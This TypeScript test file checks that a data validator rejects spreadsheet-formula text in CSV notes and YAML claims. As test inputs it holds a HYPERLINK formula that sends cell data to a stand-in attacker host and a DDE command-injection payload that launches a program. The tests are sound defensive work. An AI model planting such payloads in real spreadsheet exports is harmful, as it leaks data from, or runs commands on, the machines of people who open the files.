import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DATA_DIR } from '../../scripts/paths.js';
import { parseCsv } from './csv.js';
import { formulaIssue } from './formulas.js';
import { formatIssue } from './issues.js';
import { loadDataset } from './load.js';

/** A copy of the real data folder, to break one file at a time. */
function copyOfData(): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'mt0-formula-')), 'data');
  cpSync(DATA_DIR, dir, { recursive: true });
  return dir;
}

describe('formulaIssue()', () => {
  it('names the file, row and column of a formula-looking text, and passes ordinary text', () => {
    const issue = formulaIssue('data/x.csv', 3, 'quote', '=HYPERLINK("https://evil.example")');
    expect(issue && formatIssue(issue)).toMatch(/^data\/x\.csv:3:quote: starts like a spreadsheet formula/);
    expect(formulaIssue('data/x.csv', 3, 'notes', 'Casi un tercio')).toBeUndefined();
    expect(formulaIssue('data/x.csv', 3, 'notes', undefined)).toBeUndefined();
  });
});

describe('the data validator', () => {
  it("refuses a formula in an observation's notes, at file:row:column", () => {
    const dir = copyOfData();
    const file = join(dir, 'observations', 'pdi.csv');
    const lines = readFileSync(file, 'utf8').split('\n');
    const cells = parseCsv(lines.slice(0, 2).join('\n')).rows[0]?.cells ?? {};
    const quoted = (s = '') => `"${s.replaceAll('"', '""')}"`;
    const header = (lines[0] ?? '').split(',');
    // A copy of row 2 with a formula as its note, inserted as row 3 (the header is row 1).
    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"x")';
    lines.splice(2, 0, header.map((h) => quoted(h === 'notes' ? formula : cells[h])).join(','));
    writeFileSync(file, lines.join('\n'));
    const { dataset, issues } = loadDataset(dir, { base: join(dir, '..') });
    expect(dataset).toBeUndefined();
    const messages = issues.map(formatIssue);
    expect(messages).toContainEqual(
      expect.stringMatching(
        /^data\/observations\/pdi\.csv:3:notes: starts like a spreadsheet formula: "=HYPERLINK/,
      ),
    );
  });

  it('refuses a formula-looking claim in a statement YAML at the line of the field', () => {
    const dir = copyOfData();
    const file = join(dir, 'statements', 'seed.yaml');
    const text = readFileSync(file, 'utf8');
    // The first statement's claim is a folded block: its first line becomes a formula.
    const first = 'A lot of drugs have been found stored';
    expect(text).toContain(`claim: >-\n    ${first}`);
    // The issue points at the field's key line.
    const line = text.slice(0, text.indexOf('claim: >-')).split('\n').length;
    writeFileSync(file, text.replace(first, "@SUM(1+1)*cmd|' /C calc'!A0"));
    const { issues } = loadDataset(dir, { base: join(dir, '..') });
    expect(issues.map(formatIssue)).toContainEqual(
      expect.stringMatching(
        new RegExp(`^data/statements/seed\\.yaml:${line}:claim: starts like a spreadsheet formula`),
      ),
    );
  });
});
